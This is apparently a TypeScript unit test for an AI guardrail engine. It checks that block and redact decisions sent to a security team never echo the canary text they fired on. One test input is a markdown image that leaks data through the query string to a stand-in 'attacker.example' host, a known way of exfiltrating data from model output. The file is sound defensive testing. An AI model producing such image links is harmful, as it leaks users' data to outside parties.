import { GuardrailEngine } from './engine';
import type { GuardrailItem } from './item';
import { loadRules } from './load-rules';

/**
 * Decisions go to the invocation record and on to the SOC: they say what fired, never the
 * text it fired on. Every check type fires here on text that carries a canary, and the
 * canary must not appear anywhere in the decisions.
 */
const CANARY = 'c4n4ry-7f3a9';

const engine = new GuardrailEngine(
  loadRules(
    `
rules:
  - { id: phrase, stage: output, check: { type: phrases, phrases: ['${CANARY}'] }, action: block, severity: high }
  - { id: regex, stage: output, check: { type: regex, pattern: 'c4n4ry-[0-9a-f]{5}', must: not_match }, action: redact, severity: high }
  - { id: regex-match, stage: output, check: { type: regex, pattern: '^OK$', must: match }, action: warn, severity: low }
  - { id: urls, stage: output, check: { type: urls, allow_domains: [example.com] }, action: block, severity: high }
  - { id: json, stage: output, check: { type: json, schema: { type: object, additionalProperties: { type: integer } } }, action: log, severity: info }
  - { id: length, stage: output, check: { type: length, unit: chars, max: 10 }, action: warn, severity: low }
  - { id: combo, stage: output, check: { type: all, checks: [{ type: phrases, phrases: ['${CANARY}'] }, { type: not, check: { type: json } }] }, action: block, severity: high }
  - id: tools
    stage: tool_call
    check: { type: tool_allowlist, tools: [send], arguments_schema: { send: { type: object, properties: { to: { enum: [ops] } } } } }
    action: block
    severity: high
`,
    'evidence.spec',
  ),
);

const context = { tenant: 'acme' };

describe('evidence stays out of decisions', () => {
  it.each<[string, GuardrailItem]>([
    ['a plain answer', { stage: 'output', text: `The code is ${CANARY}.`, context }],
    [
      'an exfiltrating image',
      {
        stage: 'output',
        text: `![x](https://${CANARY}.attacker.example/p?q=${CANARY}#${CANARY})`,
        context,
      },
    ],
    [
      'JSON with the canary as key',
      { stage: 'output', text: `{"${CANARY}": "${CANARY}"}`, context },
    ],
    ['broken JSON', { stage: 'output', text: `{"a": "${CANARY}`, context }],
    [
      'a tool call',
      {
        stage: 'tool_call',
        tool_call: { name: 'send', arguments: `{"to": "${CANARY}"}` },
        context,
      },
    ],
    [
      'a tool call to a tool named after the canary',
      { stage: 'tool_call', tool_call: { name: `x-${CANARY}`, arguments: '{}' }, context },
    ],
  ])('on %s', (_, item) => {
    const result = engine.evaluate(item);
    expect(result.decisions.length).toBeGreaterThan(0);
    const written = JSON.stringify(result.decisions);
    if (item.tool_call?.name.includes(CANARY)) {
      // The tool's name is what the allowlist is about: it is named, and nothing else is.
      expect(written.split(CANARY)).toHaveLength(2);
    } else expect(written).not.toContain(CANARY);
    expect(written).not.toContain('attacker.example/');
  });
});
